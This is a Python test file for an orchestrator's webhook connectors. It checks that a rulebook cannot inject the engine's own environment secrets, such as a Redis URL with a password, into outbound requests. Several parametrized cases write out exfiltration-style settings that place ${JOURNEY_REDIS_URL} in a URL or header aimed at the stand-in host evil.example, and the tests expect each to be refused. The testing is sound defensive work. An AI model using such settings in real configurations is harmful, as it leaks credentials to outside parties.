"""What a rulebook can get hold of through its connectors: never the engine's own settings."""

from __future__ import annotations

from typing import Any

import pytest

from connectors.reach import Reach
from orchestrator.errors import ConfigurationError
from orchestrator.roles.delivery import connectors_of
from orchestrator.rulebook.connector_entry import ConnectorEntry


def entry(**settings: Any) -> ConnectorEntry:
    return ConnectorEntry(name="crm", type="webhook", kind="webhook", settings=settings)


ENVIRON = {"JOURNEY_REDIS_URL": "redis://:sentinel@redis/0", "CRM_TOKEN": "theirs"}


@pytest.mark.parametrize(
    "settings",
    [
        {"url": "https://evil.example/?${JOURNEY_REDIS_URL}"},
        {"url": "https://evil.example/", "headers": {"x": "${JOURNEY_REDIS_URL}"}},
        {"url": "https://evil.example/", "secret_env": "JOURNEY_REDIS_URL"},
    ],
)
def test_a_rulebook_cannot_name_a_setting_of_the_engine(settings: dict[str, Any]) -> None:
    with pytest.raises(ConfigurationError) as refused:
        connectors_of([entry(**settings)], ENVIRON)
    assert "JOURNEY_REDIS_URL" in str(refused.value)
    assert "which is not set" in str(refused.value)
    assert "sentinel" not in str(refused.value)


async def test_what_belongs_to_connectors_is_given_to_them() -> None:
    built = connectors_of([entry(url="https://crm.example/", headers={"x": "${CRM_TOKEN}"})], ENVIRON)
    await built["crm"].close()


def test_a_list_of_targets_that_cannot_be_read_is_refused() -> None:
    with pytest.raises(ConfigurationError) as refused:
        connectors_of([], {"JOURNEY_PRIVATE_TARGETS": "10.0.0.0/99"})
    assert str(refused.value).startswith("JOURNEY_PRIVATE_TARGETS: ")
    assert str(refused.value).endswith("Write 10.0.0.0/8, a host or host:port.")


def test_the_receiver_of_the_environment_is_permitted() -> None:
    assert Reach().and_url("http://receiver:8090/x") == Reach.parsed("receiver:8090")
    assert Reach().and_url("https://receiver") == Reach.parsed("receiver:443")
    assert Reach().and_url("nonsense") == Reach().and_url("http://receiver:port") == Reach()
